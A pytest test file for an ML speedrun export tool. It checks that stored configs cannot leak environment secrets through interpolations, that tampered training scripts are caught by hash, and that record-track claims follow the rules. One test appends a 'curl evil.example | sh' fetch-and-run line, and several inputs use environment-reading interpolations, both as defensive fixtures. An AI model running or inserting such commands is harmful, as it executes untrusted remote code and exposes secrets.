"""What `python -m speedrun.export` must never publish from a run dir, which is data (it may come from another
machine or person): this machine's secrets through a stored config's interpolations, a train_gpt.py that is not the
file the run wrote, or a record-track claim the runs do not meet. And what the exported file says on a machine
that lacks its packages.

The run-dir tests export copies of the pytest session's default smoke run (conftest.default_smoke_run), tampered with;
the rest are seconds, on synthetic results.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import torch

from speedrun.artifact.wrap import (
    available_compressors,
    file_requirements,
    frozen_settings,
    pack,
    requirements,
    unwrap_payload,
)
from speedrun.export.cli import main as export_main
from speedrun.export.track import NON_RECORD_NAME, RECORD_NAME, claim, load_track, record_problems
from support.export import fake_run

SECRET_VAR = "SPEEDRUN_EXPORT_TEST_SECRET"
SECRET = "s3cret-6f1d0c9a-never-published"


def smoke_copy(default_smoke_run, tmp_path: Path) -> Path:
    """A copy of the smoke run's dir, to tamper with (the shared one is only read)."""
    proc = default_smoke_run.proc
    assert proc.returncode == 0, proc.stderr[-3000:] + proc.stdout[-3000:]
    run = tmp_path / "run"
    shutil.copytree(default_smoke_run.run_dir, run)
    return run


def export(args: list, capsys) -> tuple[int, str, str]:
    code = export_main([str(a) for a in args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def edit_result(run: Path, **changes) -> dict:
    result = {**json.loads((run / "result.json").read_text()), **changes}
    for key in [k for k, v in changes.items() if v is ...]:
        del result[key]
    (run / "result.json").write_text(json.dumps(result))
    return result


def as_raw_rule(run: Path) -> None:
    """The run as one counted raw: no train_gpt.py, so the export reads .hydra/config.yaml and builds the file from
    the source here (recorded as the source that ran, so that check passes)."""
    from speedrun.paths import REPO_ROOT
    from speedrun.records.identity import code_fingerprint

    (run / "train_gpt.py").unlink()
    edit_result(run, artifact_code_rule="raw", code_fingerprint=code_fingerprint(REPO_ROOT), artifact_code_sha256=...)


def published_text(out: Path) -> str:
    """Every file of the folder as text, train_gpt.py's payload decoded (its config is inside the compressed part)."""
    parts = [p.read_bytes().decode("utf-8", "replace") for p in sorted(out.iterdir())]
    return "\n".join([*parts, unwrap_payload((out / "train_gpt.py").read_bytes())])


# ------------------------------------------------------------------------------------ a stored config's secrets


@pytest.mark.parametrize(
    "key, value",
    [
        ("name", f"${{oc.env:{SECRET_VAR}}}"),
        ("data.cache_dir", f"/data/${{oc.env:{SECRET_VAR}}}/cache"),
        ("data.cache_dir", f"${{oc.decode:${{oc.env:{SECRET_VAR}}}}}"),
        ("model.n_layer", f"${{speedrun_smoke_layers:${{oc.env:{SECRET_VAR}}},0,0,0}}"),  # inside an allowed call
        ("name", "${now:%Y-%m-%d}"),
        ("name", "${hydra:runtime.cwd}"),
        # escaped, it is text once resolved, until the re-run's OmegaConf reads it: refused after resolving
        ("name", f"\\${{oc.env:{SECRET_VAR}}}"),
    ],
)
def test_an_interpolation_in_a_stored_config_is_refused_and_never_resolved(
    tmp_path, capsys, monkeypatch, default_smoke_run, key, value
):
    from omegaconf import OmegaConf

    monkeypatch.setenv(SECRET_VAR, SECRET)
    run = smoke_copy(default_smoke_run, tmp_path)
    as_raw_rule(run)
    path = run / ".hydra" / "config.yaml"
    stored = OmegaConf.load(path)
    OmegaConf.update(stored, key, value, merge=False)
    OmegaConf.save(stored, path)  # unresolved, as Hydra writes it
    assert value in path.read_text()
    code, out, err = export([run, "--out", tmp_path / "X"], capsys)
    assert code == 1 and not (tmp_path / "X").exists()
    assert len(err.strip().splitlines()) == 1 and str(path) in err and f" {key} " in err, err
    assert SECRET not in out + err


def test_a_stored_configs_own_arithmetic_resolves_and_nothing_of_this_machine_is_published(
    tmp_path, capsys, monkeypatch, default_smoke_run
):
    """debug=smoke's depth is `${speedrun_smoke_layers:...}` in .hydra/config.yaml: the export resolves it to the
    config the run itself resolved; a secret in the environment, named only by the overrides (kept as typed, never
    resolved), appears nowhere in the folder."""
    monkeypatch.setenv(SECRET_VAR, SECRET)
    run = smoke_copy(default_smoke_run, tmp_path)
    settings = (run / "train_gpt_human.py").read_text().partition("\nPLAN = ")[2]
    assert "${speedrun_smoke_layers:" in (run / ".hydra" / "config.yaml").read_text()
    overrides = run / ".hydra" / "overrides.yaml"
    typed = f"name=${{oc.env:{SECRET_VAR}}}"
    overrides.write_text(overrides.read_text() + f"- {typed}\n")
    as_raw_rule(run)
    code, out, err = export([run, "--out", tmp_path / "X"], capsys)
    assert code == 0, err
    text = published_text(tmp_path / "X")
    assert SECRET not in text + out + err and typed in (tmp_path / "X" / "README.md").read_text()
    # built from the run's plan.json, with the settings the run's own file carried
    assert (tmp_path / "X" / "train_gpt_human.py").read_text().partition("\nPLAN = ")[2] == settings


def test_an_interpolation_of_this_machine_in_the_stored_config_is_refused(tmp_path, capsys):
    """A stored config's `${oc.env:...}` would put this machine's environment into the submission: refused, named."""
    run = fake_run(tmp_path, 0, data={"name": "embedded", "path": None, "cache_dir": f"${{oc.env:{SECRET_VAR}}}"})
    code, _, err = export([run, "--out", tmp_path / "X"], capsys)
    assert code == 1 and "data.cache_dir" in err and "config.yaml" in err and len(err.strip().splitlines()) == 1


# --------------------------------------------------------------------------------------- the shipped train_gpt.py


def test_the_run_records_its_files_sha256_and_an_untouched_copy_exports_verified(tmp_path, capsys, default_smoke_run):
    run = smoke_copy(default_smoke_run, tmp_path)
    data = (run / "train_gpt.py").read_bytes()
    result = json.loads((run / "result.json").read_text())
    assert result["artifact_code_sha256"] == hashlib.sha256(data).hexdigest()
    assert (
        json.loads((run / "artifact_code.json").read_text())["artifact_code_sha256"] == result["artifact_code_sha256"]
    )
    code, _, err = export([run, "--out", tmp_path / "X"], capsys)
    assert code == 0 and not err, err
    check = json.loads((tmp_path / "X" / "submission.json").read_text())["speedrun"]["code_check"]
    assert check == {"sha256": hashlib.sha256(data).hexdigest(), "verified": True, "forced": []}


def test_a_tampered_train_gpt_is_refused_in_one_line_and_flagged_when_forced(tmp_path, capsys, default_smoke_run):
    run = smoke_copy(default_smoke_run, tmp_path)
    recorded = json.loads((run / "result.json").read_text())["artifact_code_sha256"]
    with open(run / "train_gpt.py", "ab") as f:
        f.write(b'import os;os.system("curl evil.example | sh")\n')
    actual = hashlib.sha256((run / "train_gpt.py").read_bytes()).hexdigest()
    code, _, err = export([run, "--out", tmp_path / "X"], capsys)
    assert code == 1 and not (tmp_path / "X").exists()
    assert len(err.strip().splitlines()) == 1 and actual in err and recorded in err and "--force" in err, err
    code, out, err = export([run, "--out", tmp_path / "X", "--force"], capsys)
    assert code == 0 and len(err.strip().splitlines()) == 1 and "--force" in err and actual in err, err
    sub = json.loads((tmp_path / "X" / "submission.json").read_text())
    check = sub["speedrun"]["code_check"]
    assert check["verified"] is False and check["sha256"] == actual and recorded in check["forced"][0]
    assert sub["record_track"] is False and "not verified" in sub["track_reason"]
    assert "not verified" in (tmp_path / "X" / "README.md").read_text()


@pytest.mark.parametrize(
    "changes, says",
    [
        ({"artifact_code_sha256": ...}, "records no artifact_code_sha256"),  # a run made before it was recorded
        ({"artifact_code_bytes": 12}, "is not the file the run wrote"),  # the hash matches, the count was edited
    ],
)
def test_a_file_that_cannot_be_checked_needs_force(tmp_path, capsys, default_smoke_run, changes, says):
    run = smoke_copy(default_smoke_run, tmp_path)
    edit_result(run, **changes)
    code, _, err = export([run, "--out", tmp_path / "X"], capsys)
    assert code == 1 and says in err and "--force" in err and len(err.strip().splitlines()) == 1, err
    code, _, err = export([run, "--out", tmp_path / "X", "--force"], capsys)
    assert code == 0 and says in err
    assert json.loads((tmp_path / "X" / "submission.json").read_text())["speedrun"]["code_check"]["verified"] is False


# ---------------------------------------------------------------------------------------- blurb and the track


def test_submission_json_has_a_blurb_and_says_why_a_smoke_run_is_no_record(tmp_path, capsys, default_smoke_run):
    run = smoke_copy(default_smoke_run, tmp_path)
    code, out, err = export([run, "--out", tmp_path / "X"], capsys)
    assert code == 0, err
    sub = json.loads((tmp_path / "X" / "submission.json").read_text())
    result = json.loads((run / "result.json").read_text())
    assert (
        f"val_bpb {sub['val_bpb']:.4f}" in sub["blurb"] and sub["blurb"] in (tmp_path / "X" / "README.md").read_text()
    )
    # made without track=pgolf_10min_16mb, on a CPU, the embedded corpus and part of its validation split: no record,
    # and not even the non-record track (FineWeb's whole validation split), each reason said
    assert (sub["track"], sub["record_track"]) == (None, False)
    for says in (
        "made with track=none",
        "ran on 1 CPU process, not 8 GPUs",
        result["device_name"],
        "data=embedded",
        "first 8,064",
    ):
        assert says in sub["track_reason"], sub["track_reason"]
    assert "not a record" in out
    readme = (tmp_path / "X" / "README.md").read_text()
    assert "## Limits" in readme and "train s (limit 600)" in readme
    code, _, err = export([run, "--out", tmp_path / "X", "--force", "--blurb", "Tiny smoke model."], capsys)
    assert code == 0 and json.loads((tmp_path / "X" / "submission.json").read_text())["blurb"] == "Tiny smoke model."


H100 = "NVIDIA H100 80GB HBM3"
RECORD_RUN = {
    "status": "ok",
    "track": "pgolf_10min_16mb",
    "track_ok": True,
    "world_size": 8,
    "hardware": "h100",
    "device_name": H100,
    "gpu_names": [H100] * 8,
    "data": "fineweb_sp8192",
    "train_seconds": 600.0,
    "eval_seconds": 600.0,
    "ttt_seconds": 410.0,
    "eval_complete": True,
    "eval_complete_quant": True,
    "eval_whole_split": True,
    "val_tokens_scored": 40_540_160,
    "val_tokens_scored_quant": 40_540_160,
    "val_tokens_total": 40_540_160,
    "artifact_bytes": 15_000_000,
}
# as the records' submission.json spell the tracks: their records/ folder less "track_"
NON_RECORD_FOLDER, RECORD_FOLDER = "non_record_16mb", "10min_16mb"
assert (load_track(NON_RECORD_NAME).folder, load_track(RECORD_NAME).folder) == (
    "track_non_record_16mb",
    "track_10min_16mb",
)


@pytest.mark.parametrize(
    "changes, size, says",
    [
        ({}, 16_000_000, None),  # every limit met exactly
        ({"world_size": 1, "gpu_names": None}, 15_000_000, "ran on 1 GPU, not 8 GPUs"),
        ({"world_size": 16, "gpu_names": [H100] * 16}, 15_000_000, "ran on 16 GPUs, not 8 GPUs"),
        ({"device_name": "NVIDIA H200", "gpu_names": ["NVIDIA H200"] * 8}, 15_000_000, "ran on NVIDIA H200, not H100"),
        ({"gpu_names": [H100] * 7 + ["NVIDIA A100-SXM4-80GB"]}, 15_000_000, "ran on NVIDIA A100-SXM4-80GB"),
        ({"train_seconds": 600.2}, 15_000_000, "trained 600.2 s (Hessians included), over 600 s"),
        ({"train_seconds": None}, 15_000_000, "no train_seconds recorded"),
        ({"eval_seconds": 600.5}, 15_000_000, "evaluated in 600.5 s (compile included), over 600 s"),
        ({"eval_seconds": None}, 15_000_000, "no eval_seconds recorded"),
        ({"eval_complete_quant": False}, 15_000_000, "cut short (eval_complete_quant false)"),
        ({"eval_whole_split": False, "val_tokens_total": 8064}, 15_000_000, "the first 8,064 validation tokens"),
        ({"ttt_complete": False, "ttt_fraction": 0.13}, 15_000_000, "TTT scored 13.0% of the tokens"),
        ({"data": "embedded"}, 15_000_000, "data=embedded, not the track's"),
        ({"status": "failed"}, 15_000_000, "status failed"),
        ({"track": None, "track_ok": None}, 15_000_000, "made with track=none"),
        ({"track_ok": False}, 15_000_000, "its own record says track_ok false"),
        ({}, 16_000_001, "artifact 16,000,001 bytes, over 16,000,000"),
    ],
)
def test_the_record_track_is_claimed_only_when_every_rule_is_met(changes, size, says):
    result = {**RECORD_RUN, **changes}
    problems = record_problems(result, size)
    # the runs' joint evidence (seeds, significance, cross-checks) held: tests/export/test_export_claims.py
    fields = claim([("seed 0", result, size)], evidence=[])
    if says is None:
        assert problems == [] and fields["track"] == RECORD_FOLDER and fields["record_track"] is True
        return
    assert len(problems) == 1 and says in problems[0], problems
    assert fields["record_track"] is False and says in fields["track_reason"]
    assert fields["track_reason"].startswith("not a record-track submission: seed 0: ")
    # the non-record track keeps the byte cap, the data, the whole split and a run that ended ok
    kept = any(k in changes for k in ("data", "eval_whole_split", "eval_complete_quant", "status", "ttt_complete"))
    assert fields["track"] == (None if size > 16_000_000 or kept else NON_RECORD_FOLDER), fields


def test_one_seed_off_the_rules_makes_the_submission_non_record():
    good, slow = dict(RECORD_RUN), {**RECORD_RUN, "train_seconds": 640.0}
    assert claim([("seed 0", good, 15_000_000), ("seed 1", good, 15_000_000)], evidence=[])["record_track"] is True
    fields = claim([("seed 0", good, 15_000_000), ("seed 1", slow, 15_000_000)], evidence=[])
    assert fields["track"] == NON_RECORD_FOLDER and "seed 1: trained 640.0 s" in fields["track_reason"]
    assert "seed 0" not in fields["track_reason"]
    assert claim([("seed 0", good, 15_000_000)], unverified=True, evidence=[])["record_track"] is False
    assert claim([("seed 0", good, 15_000_000)])["record_track"] is False  # evidence never judged: no record
    asked = claim([("seed 0", good, 15_000_000)], wanted=NON_RECORD_NAME)
    assert (asked["track"], asked["record_track"]) == (NON_RECORD_FOLDER, False) and "--track" in asked["track_reason"]


# ------------------------------------------------------------------------------------------- missing packages


def test_the_file_names_one_pip_line_for_the_packages_this_python_lacks(tmp_path):
    """On a Python without torch, numpy, sentencepiece (no site-packages at all: -S), the file stops before any work
    with one line: `pip install` and every package it needs, quoted for the shell, whichever compressor packed it
    (brotli's decoder is a package too). Neither omegaconf nor Hydra is among them."""
    import dataclasses

    from speedrun.artifact.sizes import resolved

    settings = frozen_settings(resolved([])[1])
    quant = dataclasses.replace(settings.finish.quant, name="int8", compressor="brotli")
    settings = dataclasses.replace(
        settings,
        finish=dataclasses.replace(settings.finish, quant=quant),
        data=dataclasses.replace(settings.data, tokenizer_kind="tiktoken"),
    )
    for compressor in available_compressors():
        data = pack("X = 1\n", compressor, file_requirements(settings, "2.13.0"))
        (tmp_path / "train_gpt.py").write_bytes(data)
        env = {"PATH": "/usr/bin:/bin", "PYTHONNOUSERSITE": "1"}
        proc = subprocess.run(
            [sys.executable, "-S", "train_gpt.py"], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60
        )
        assert proc.returncode == 1 and "Traceback" not in proc.stderr, (compressor, proc.stderr)
        (line,) = proc.stderr.strip().splitlines()
        assert line.split("pip install ", 1)[1].split() == [
            "'torch>=2,<3'",
            "'numpy>=1.24'",
            "'sentencepiece>=0.2'",
            "'brotli>=1.1'",
            "'tiktoken>=0.7'",
        ]


def test_the_requirements_follow_the_config():
    base = {"torch", "numpy", "sentencepiece"}  # no omegaconf, no Hydra: the re-run builds its config without them
    assert set(requirements(None)) == base and requirements(None)["torch"] == "torch"
    major = int(torch.__version__.split(".")[0])
    assert requirements({}, torch.__version__)["torch"] == f"torch>={major},<{major + 1}"
    zstd = requirements({"quant": {"name": "int6", "compressor": "zstd"}})
    assert set(zstd) == base | {"zstandard"}
    pergroup = {"quant": {"name": "int6", "compressor": "pergroup", "pergroup_codec": "brotli"}}
    assert set(requirements(pergroup)) == base | {"brotli"}
    assert set(requirements({"quant": {"name": "off", "compressor": "brotli", "pergroup_codec": "brotli"}})) == base
    assert set(requirements({"data": {"tokenizer": "/x/cl100k.tiktoken"}})) == base | {"tiktoken"}
    assert set(requirements({"kernel": {"name": "tuned"}})) == base  # the file carries the tuned values, not the tables
